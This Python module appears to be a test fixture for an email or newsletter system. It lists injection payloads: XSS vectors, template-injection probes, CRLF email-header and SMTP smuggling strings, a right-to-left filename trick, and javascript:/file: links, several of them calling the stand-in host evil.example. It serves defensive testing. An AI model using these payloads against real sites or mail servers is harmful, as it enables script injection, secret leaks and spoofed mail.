"""A hundred and fifty texts that want to be more than text."""

from __future__ import annotations

_SCRIPTS = [
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href=javascript:window.hit=1>x</a>",
    "<details open ontoggle=window.hit=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=a>",
    "<object data=https://evil.example/x.swf>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<!--><script>window.hit=1</script-->",
]
_ENDINGS = ["'>", '">', "</title>", "</style>", "</textarea>", "-->", "]]>", "</td></tr></table>"]
_TEMPLATES = [
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "{0.__class__.__mro__}",
    "%(settings)s",
    "${7*7}",
    "#{7*7}",
]
_HEADERS = [
    f"소식{ending}{name}: evil@evil.example"
    for ending in ("\r\n", "\n", "\r", "\u2028", "\x0b", "\x85", "\r\n ", "\r\n\r\n")
    for name in ("Bcc", "To", "Subject", "Content-Type")
]
_WORDS = [
    "=?utf-8?B?QmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?=",
    "=?utf-8?Q?=0D=0ABcc=3A_evil=40evil.example?=",
    "=?iso-8859-1?q?x?=\r\nBcc: evil@evil.example",
    "evil@evil.example, other@evil.example",
    "<evil@evil.example>",
    '"a" <evil@evil.example>;',
    "__UNSUBSCRIBE_URL__",
    "__PREFERENCES_URL____UNSUBSCRIBE_URL__",
    ".\r\nMAIL FROM:<evil@evil.example>",
    "\r\n.\r\nQUIT\r\n",
    "\u202egnp.exe",
    "\u2066\u2067뒤집기\u2069",
    "\x00소식\x00",
    "--=_boundary\r\nContent-Type: text/html",
    "소식\t\x1b[31m",
    "가" * 299,
]

PAYLOADS = [
    *_SCRIPTS,
    *(ending + script for ending in _ENDINGS for script in _SCRIPTS[:9]),
    *_TEMPLATES,
    *_HEADERS,
    *_WORDS,
    *(f"&lt;{each[1:]}" for each in _SCRIPTS[:4]),
]

LINKS = [
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:x",
    "//evil.example/",
    "https://ok.example/\r\nBcc: evil@evil.example",
    "https://ok.example/ onmouseover=window.hit=1",
    "https://ok.example/\"onmouseover='window.hit=1'",
    "file:///etc/passwd",
    "\x01javascript:window.hit=1",
]
